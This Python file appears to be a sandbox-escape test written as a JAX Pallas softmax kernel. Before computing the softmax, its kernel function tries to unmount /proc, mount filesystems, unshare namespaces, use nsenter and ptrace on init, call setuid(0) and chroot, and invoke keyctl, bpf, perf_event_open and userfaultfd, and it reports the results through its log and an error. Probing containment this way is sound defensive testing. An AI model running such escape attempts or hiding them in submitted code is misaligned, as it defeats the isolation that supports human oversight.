"""Attack: take privileges — unmount /proc, mount, unshare a user namespace, setns, ptrace,
setuid(0), chroot, and the system calls a contained process has no use for (keyctl, bpf,
perf_event_open, userfaultfd) — through libc (ctypes) and through a shell."""

import typing

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

load = typing.sys.modules["importlib"].import_module
os = load("os")
TARGETS = {}  # nothing to fill in: everything here is attacked from inside
SYSCALLS = {  # number of keyctl, bpf, perf_event_open, userfaultfd per architecture
    "x86_64": (250, 321, 298, 323),
    "aarch64": (219, 280, 241, 282),
}


def attempt(action) -> str:
    """'ok' when the action succeeded, else its error's name (the errno code where it has one)."""
    try:
        action()
    except OSError as exc:
        return load("errno").errorcode.get(exc.errno, type(exc).__name__)
    except Exception as exc:
        return type(exc).__name__
    return "ok"


def tell(outcomes: dict) -> None:
    """Send back what the attack got, the only ways a candidate can: its log and its error."""
    line = "ATTACK " + " ".join(f"{key}={value}" for key, value in outcomes.items())
    print(line, flush=True)
    raise RuntimeError(line)


def kernel(x):
    ctypes = load("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)

    def call(name, *args) -> str:
        def run():
            if getattr(libc, name)(*args) == -1:
                raise OSError(ctypes.get_errno(), name)

        return attempt(run)

    def shell(command: str) -> str:
        return "ok" if os.system(command + " >/dev/null 2>&1") == 0 else "failed"

    os.makedirs("mnt", exist_ok=True)
    keyctl, bpf, perf, userfaultfd = SYSCALLS.get(os.uname().machine, (-1, -1, -1, -1))
    outcomes = {
        "umount": call("umount2", b"/proc", 2),  # MNT_DETACH
        "umount_sh": shell("umount -l /proc"),
        "mount": call("mount", b"none", b"mnt", b"tmpfs", 0, None),
        "mount_sh": shell("mount -t tmpfs none mnt"),
        "unshare": call("unshare", 0x10000000),  # CLONE_NEWUSER
        "unshare_sh": shell("unshare -r true"),
        "nsenter_sh": shell("nsenter --mount=/proc/1/ns/mnt true"),
        "ptrace": call("ptrace", 16, 1, None, None),  # PTRACE_ATTACH to the sandbox's init
        "setuid": attempt(lambda: os.setuid(0)),
        "chroot": attempt(lambda: os.chroot("mnt")),
        "keyctl": call("syscall", keyctl, 0, -3, 0, 0, 0),
        "bpf": call("syscall", bpf, 0, None, 0),
        "perf": call("syscall", perf, None, 0, -1, -1, 0),
        "userfaultfd": call("syscall", userfaultfd, 0),
        "proc": attempt(lambda: open("/proc/self/status").close()),
        "uid": str(os.getuid()),
    }
    with open("/proc/self/status") as status:
        capabilities = [line.split()[1] for line in status if line.startswith("CapEff")]
    outcomes["caps"] = capabilities[0] if capabilities else "unknown"
    tell(outcomes)
    return pl.pallas_call(_softmax, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)


def _softmax(x_ref, o_ref):
    x = x_ref[...]
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    o_ref[...] = e / jnp.sum(e, axis=-1, keepdims=True)
